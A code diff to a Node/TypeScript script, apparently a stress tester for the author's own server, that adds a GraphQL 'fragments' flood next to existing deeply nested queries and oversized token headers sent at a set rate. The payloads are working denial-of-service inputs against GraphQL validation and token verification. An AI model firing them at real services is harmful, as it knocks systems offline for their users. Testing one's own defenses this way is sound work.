@@ -5,7 +5,7 @@ import { request } from "node:http"
 /** What one attack sends. */
 export interface Attack {
   readonly port: number
-  readonly kind: "documents" | "header"
+  readonly kind: "documents" | "fragments" | "header"
   readonly perSecond: number
   /** How many in all; at the end the process waits for the answers. */
   readonly count: number
@@ -19,6 +19,11 @@ export interface Attack {
 const levels = 390
 const documentOf = (number: number) => `query A${number} { ${"... on Query { ".repeat(levels)}__typename ${"}".repeat(levels)} }`
 
+/** A document whose fragments repeat a field so often that validation would compare it thousands of times. */
+const fragments = Array.from({ length: 130 }, (_, index) => index)
+const fragmentsOf = (number: number) =>
+  `query A${number} { ${fragments.map((each) => `...F${each}`).join(" ")} } ${fragments.map((each) => `fragment F${each} on Query { viewer { user { id } } }`).join(" ")}`
+
 /** A token whose header is JSON with as many members as the largest body holds, and whose signature is wrong. */
 const tokenOf = (number: number) => {
   const members = Array.from({ length: 66_000 }, (_, index) => `"${index.toString(36)}":0`)
@@ -28,7 +33,10 @@ const tokenOf = (number: number) => {
 
 const { port, kind, perSecond, count, from, address }: Attack = JSON.parse(process.argv[2] ?? "")
 const header = JSON.stringify({ token: tokenOf(from) })
-const bodyOf = (number: number) => (kind === "header" ? header : JSON.stringify({ query: documentOf(number) }))
+const bodyOf = (number: number) => {
+  if (kind === "header") return header
+  return JSON.stringify({ query: kind === "fragments" ? fragmentsOf(number) : documentOf(number) })
+}
 const path = kind === "header" ? "/api/auth/token/verify" : "/graphql"
 const codes: Record<string, number> = {}
 
